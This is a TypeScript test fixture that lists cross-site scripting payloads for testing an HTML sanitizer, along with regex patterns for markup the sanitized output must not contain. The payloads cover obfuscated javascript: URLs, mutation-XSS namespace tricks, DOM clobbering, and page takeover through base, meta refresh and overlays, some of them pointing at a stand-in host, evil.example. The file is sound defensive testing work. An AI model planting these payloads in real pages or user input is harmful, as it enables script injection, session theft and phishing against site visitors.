// A corpus of hostile markup: script injection, event handlers, script URLs in many encodings,
// SVG/MathML namespace tricks, classic mutation-XSS payloads, DOM clobbering, page takeover
// (<base>, meta refresh, overlays). Each is embedded in an article page by the tests.

export interface Vector {
  name: string;
  html: string;
}

const JS = ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', 'java&#x09;script:alert(1)', 'java&#x0A;script:alert(1)',
  'java&#x0D;script:alert(1)', '&#x6A;avascript:alert(1)', '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
  '&#0000106avascript:alert(1)', 'jav&#x41;script:alert(1)', '&#x01;javascript:alert(1)', '\u0000javascript:alert(1)', 'javascript&colon;alert(1)',
  'vbscript:msgbox(1)', 'VBScript:msgbox(1)', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg onload=alert(1)>', 'livescript:alert(1)'];

export const VECTORS: Vector[] = [
  { name: 'script tag', html: '<p>Intro<script>alert(1)</script> text</p>' },
  { name: 'script with src', html: '<script src="https://evil.example/x.js"></script>' },
  { name: 'uppercase script', html: '<SCRIPT>alert(1)</SCRIPT>' },
  { name: 'img onerror', html: '<p><img src=x onerror=alert(1)>caption</p>' },
  { name: 'img onerror uppercase no quotes', html: '<IMG SRC=/ ONERROR="alert(1)">' },
  { name: 'body onload', html: '<body onload=alert(1)><p>x</p>' },
  { name: 'svg onload', html: '<svg onload=alert(1)><circle r="5"/></svg>' },
  { name: 'svg script', html: '<svg><script>alert(1)</script></svg>' },
  { name: 'svg use external', html: '<svg><use href="https://evil.example/sprite.svg#x"></use><use xlink:href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48aW1hZ2UgaHJlZj0ieCIgb25lcnJvcj0iYWxlcnQoMSkiLz48L3N2Zz4=#x"></use></svg>' },
  { name: 'svg animate href', html: '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text x="20" y="20">click</text></a></svg>' },
  { name: 'svg foreignObject', html: '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>' },
  { name: 'noscript title breakout (mXSS)', html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>' },
  { name: 'math mtext table mglyph style (namespace confusion)', html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>' },
  { name: 'math mtext mglyph svg style', html: '<math><mtext><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">' },
  { name: 'form math mtext form mglyph style', html: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>' },
  { name: 'svg p style', html: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">' },
  { name: 'annotation-xml html', html: '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>' },
  { name: 'template', html: '<template><img src=x onerror=alert(1)></template>' },
  { name: 'iframe srcdoc', html: '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>' },
  { name: 'iframe javascript src', html: '<iframe src="javascript:alert(1)"></iframe>' },
  { name: 'object data', html: '<object data="data:text/html,<script>alert(1)</script>"></object><embed src="javascript:alert(1)">' },
  { name: 'form clobbering id=location', html: '<form id="location" action="javascript:alert(1)"><input name="href" value="x"><button formaction="javascript:alert(1)">Go</button></form>' },
  { name: 'clobbering ids', html: '<img id="cookie" name="domain" src="/a.jpg"><a id="defaultView" href="/x">x</a>' },
  { name: 'base href', html: '<base href="https://evil.example/"><a href="/next">next</a>' },
  { name: 'meta refresh', html: '<meta http-equiv="refresh" content="0;url=https://evil.example/">' },
  { name: 'style overlay', html: '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:white">Fake login</div><style>body{display:none}</style>' },
  { name: 'link stylesheet', html: '<link rel="stylesheet" href="https://evil.example/x.css">' },
  { name: 'event handlers galore', html: '<p onmouseover="alert(1)" onclick="alert(1)" onfocus="alert(1)" tabindex="0">hover</p><details open ontoggle=alert(1)><summary>s</summary>d</details>' },
  { name: 'video poster / source', html: '<video poster="javascript:alert(1)" autoplay><source src="javascript:alert(1)" onerror="alert(1)"></video><audio src=x onerror=alert(1)></audio>' },
  { name: 'input autofocus', html: '<input autofocus onfocus=alert(1)><textarea autofocus onfocus=alert(1)>t</textarea><select autofocus onfocus=alert(1)></select>' },
  { name: 'marquee / keygen', html: '<marquee onstart=alert(1)>m</marquee><keygen autofocus onfocus=alert(1)>' },
  { name: 'a target without rel', html: '<a href="https://example.com/" target="_blank">out</a><a href="https://example.com/" target="opener">named</a>' },
  { name: 'srcset javascript', html: '<img src="/ok.jpg" srcset="javascript:alert(1) 1x, /big.jpg 2x">' },
  { name: 'css expression / behavior', html: '<p style="width:expression(alert(1));behavior:url(x.htc)">css</p>' },
  { name: 'comment breakout', html: '<!--<img src=x onerror=alert(1)>--><p>after</p><!--[if]><script>alert(1)</script><![endif]-->' },
  { name: 'cdata in svg', html: '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>' },
  { name: 'xmp / plaintext', html: '<xmp><img src=x onerror=alert(1)></xmp>' },
  { name: 'textarea breakout', html: '<textarea><img src=x onerror=alert(1)></textarea>' },
  { name: 'title breakout', html: '<title><img src=x onerror=alert(1)></title>' },
  { name: 'unclosed tags', html: '<p><b><i><a href="javascript:alert(1)">x<img src=x onerror=alert(1)' },
  { name: 'dangling markup', html: '<img src="https://evil.example/?' },
  { name: 'is attribute', html: '<p is="x-evil" onclick=alert(1)>p</p>' },
  { name: 'frameset', html: '<frameset><frame src="javascript:alert(1)"></frameset>' },
  { name: 'portal / dialog', html: '<portal src="https://evil.example/"></portal><dialog open onclose=alert(1)>d</dialog>' },
  // Entities decode to markup *inside text nodes*: harmless as parsed, dangerous if a copy of the
  // tree is serialized raw (svg/math style text) and parsed again. Extraction sanitizes its copy
  // of the DOM in place, so these reach DOMPurify as nodes, not as a string.
  { name: 'entity-encoded breakout in svg style', html: '<svg><style>&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;</style></svg><p>after</p>' },
  { name: 'entity-encoded breakout in math style', html: '<math><mi><style>&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;</style></mi></math>' },
  { name: 'entity-encoded breakout in svg title', html: '<svg><title>&lt;/title&gt;&lt;img src=x onerror=alert(1)&gt;</title></svg>' },
  { name: 'entity-encoded breakout in noscript', html: '<noscript>&lt;/noscript&gt;&lt;img src=x onerror=alert(1)&gt;</noscript>' },
  ...JS.map((u, i) => ({ name: `script URL #${i + 1} in href`, html: `<p>Go <a href="${u}">there</a> now.</p>` })),
  ...JS.map((u, i) => ({ name: `script URL #${i + 1} in img/src, area, form action`, html: `<img src="${u}"><map name="m"><area href="${u}"></map><form action="${u}"><button>b</button></form>` })),
];

/** Markup the output must never contain (checked on the sanitized HTML string; the DOM is checked too). */
export const FORBIDDEN_IN_HTML: Array<[string, RegExp]> = [
  ['script element', /<script/i],
  ['event handler attribute', /<[^>]+\son[a-z]+\s*=/i],
  // Inside a tag only: text may legitimately read `href="javascript:..."` (escaped `<` keeps it text).
  ['javascript: URL', /<[^>]*\s(?:href|src|action|formaction|poster|srcset|data|cite)\s*=\s*["']?\s*(?:javascript|vbscript|livescript):/i],
  ['script-bearing data: URL', /<[^>]*\s(?:href|src|action|formaction|poster|srcset|data|cite)\s*=\s*["']?\s*data:(?!image\/(?:png|jpe?g|gif|webp)[;,])/i],
  ['style attribute', /<[^>]+\sstyle\s*=/i],
  ['style element', /<style/i],
  ['frame', /<(?:iframe|frame|frameset|object|embed|portal)\b/i],
  ['form control', /<(?:form|input|button|select|textarea|keygen)\b/i],
  ['base', /<base\b/i],
  ['meta', /<meta\b/i],
  ['link', /<link\b/i],
  ['template', /<template\b/i],
  ['svg use', /<use\b/i],
  ['srcdoc', /<[^>]*\ssrcdoc\s*=/i],
];
